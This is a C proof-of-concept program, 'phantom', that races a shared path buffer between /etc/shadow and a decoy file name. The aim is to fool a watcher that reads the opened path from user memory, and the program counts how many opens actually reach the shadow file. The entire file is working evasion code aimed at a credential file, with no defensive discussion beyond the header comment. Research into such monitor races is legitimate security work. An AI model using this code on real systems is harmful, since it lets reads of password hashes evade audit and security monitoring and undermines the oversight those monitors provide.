// phantom: the path-buffer race ("phantom" TOCTOU) against a watcher that reads an open's path
// from user memory. One thread opens PATH-BUFFER in a loop; another flips the buffer between
// /etc/shadow and a harmless file with the same base name (DECOY), holding each for SPIN
// iterations. Each fd is checked by inode: prints how many opens really got /etc/shadow, how
// many got the decoy, and how many failed (a half-written path).
//
//   phantom OPENS SPIN DECOY
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char buf[256];
static char decoy[256];
static volatile int stop;
static int spin = 200;

static void *flip(void *a)
{
	(void)a;
	while (!stop) {
		strcpy(buf, "/etc/shadow");
		__asm__ volatile("" ::: "memory");
		for (volatile int k = 0; k < spin; k++)
			;
		strcpy(buf, decoy);
		__asm__ volatile("" ::: "memory");
		for (volatile int k = 0; k < spin; k++)
			;
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 4 || strlen(argv[3]) >= sizeof(decoy)) {
		fprintf(stderr, "usage: phantom OPENS SPIN DECOY\n");
		return 2;
	}
	int n = atoi(argv[1]);
	spin = atoi(argv[2]);
	strcpy(decoy, argv[3]);
	strcpy(buf, decoy);
	struct stat sh;
	if (stat("/etc/shadow", &sh)) {
		perror("/etc/shadow");
		return 1;
	}
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	long got = 0, other = 0, fails = 0;
	for (int i = 0; i < n; i++) {
		int fd = open(buf, O_RDONLY);
		if (fd < 0) {
			fails++;
			continue;
		}
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_ino == sh.st_ino && st.st_dev == sh.st_dev)
			got++;
		else
			other++;
		close(fd);
	}
	stop = 1;
	pthread_join(t, 0);
	printf("%ld %ld %ld\n", got, other, fails);
	return 0;
}
